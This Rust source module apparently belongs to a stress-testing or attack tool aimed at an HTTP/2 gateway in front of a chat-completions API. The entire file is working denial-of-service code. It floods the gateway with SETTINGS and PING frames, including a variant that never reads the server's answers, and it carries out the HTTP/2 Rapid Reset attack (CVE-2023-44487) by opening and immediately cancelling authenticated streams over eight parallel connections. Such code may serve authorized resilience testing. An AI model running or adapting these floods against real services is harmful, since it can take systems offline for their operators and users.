//! Attacks by HTTP/2 frames that cost little to send.

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};

use super::attack::{Target, again};

/// An empty SETTINGS frame, which must be acknowledged (RFC 9113, 6.5.3).
pub(super) const SETTINGS: &[u8] = b"\0\0\0\x04\0\0\0\0\0";
/// A PING frame, which must be answered (RFC 9113, 6.7).
pub(super) const PING: &[u8] = b"\0\0\x08\x06\0\0\0\0\0attacker";

/// The same frame over and over, on 8 connections whose answers are read.
pub(super) async fn flood(target: Target, frame: &'static [u8]) -> anyhow::Result<()> {
    again(target, CONNECTIONS, move |target| async move {
        let (read, write) = tokio::io::split(target.http2().await?);
        tokio::select! {
            ended = discard(read) => ended,
            ended = repeat(&target, write, frame) => ended,
        }
    })
    .await
}

/// The same, without reading: the gateway's own answers have nowhere to go.
pub(super) async fn unread(target: Target, frame: &'static [u8]) -> anyhow::Result<()> {
    again(target, CONNECTIONS, move |target| async move {
        let stream = target.http2().await?;
        repeat(&target, stream, frame).await
    })
    .await
}

/// Calls that are reset as soon as they are made (CVE-2023-44487).
pub(super) async fn resets(target: Target) -> anyhow::Result<()> {
    again(target, CONNECTIONS, |target| async move {
        let (read, mut write) = tokio::io::split(target.http2().await?);
        let head = call_head(&target.key)?;
        let send = async {
            write.write_all(PREFACE).await?;
            let mut block = Vec::new();
            // Clients' streams have odd numbers.
            for stream in (1..u32::MAX >> 1).step_by(2) {
                block.extend_from_slice(&head_frame(&head, stream)?);
                block.extend_from_slice(b"\0\0\x04\x03\0");
                block.extend_from_slice(&stream.to_be_bytes());
                block.extend_from_slice(&CANCEL.to_be_bytes());
                if block.len() > BLOCK {
                    write.write_all(&block).await?;
                    write.flush().await?;
                    target.tries(u64::try_from(block.len() / (head.len() + 22))?);
                    block.clear();
                }
            }
            Ok(())
        };
        tokio::select! {
            ended = discard(read) => ended,
            ended = send => ended,
        }
    })
    .await
}

async fn repeat(
    target: &Target,
    mut write: impl AsyncWrite + Unpin,
    frame: &'static [u8],
) -> anyhow::Result<()> {
    write.write_all(PREFACE).await?;
    let frames = BLOCK / frame.len();
    let block = frame.repeat(frames);
    loop {
        write.write_all(&block).await?;
        write.flush().await?;
        target.tries(u64::try_from(frames)?);
    }
}

async fn discard(mut read: impl AsyncRead + Unpin) -> anyhow::Result<()> {
    let mut buffer = vec![0; BLOCK];
    while read.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// The head of a call, by HPACK without its table (RFC 7541, 6.2.2): POST, https, path, authority, key.
fn call_head(key: &str) -> anyhow::Result<Vec<u8>> {
    let mut head = vec![0x83, 0x87, 0x04];
    let path = "/openai/deployments/chat/chat/completions?api-version=2024-10-21";
    for (before, text) in [(&[][..], path), (&[0x01], "gateway"), (&[0x00], "api-key"), (&[], key)] {
        head.extend_from_slice(before);
        let length = u8::try_from(text.len())?;
        anyhow::ensure!(length < 127, "{text} is too long for one byte of length");
        head.push(length);
        head.extend_from_slice(text.as_bytes());
    }
    Ok(head)
}

/// A HEADERS frame that ends the head and not the stream.
fn head_frame(head: &[u8], stream: u32) -> anyhow::Result<Vec<u8>> {
    let [_, length @ ..] = u32::try_from(head.len())?.to_be_bytes();
    let mut frame = length.to_vec();
    frame.extend_from_slice(&[0x01, 0x04]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(head);
    Ok(frame)
}

/// The client's first bytes, with settings of which none is set.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const CANCEL: u32 = 8;
const CONNECTIONS: usize = 8;
const BLOCK: usize = 16 << 10;
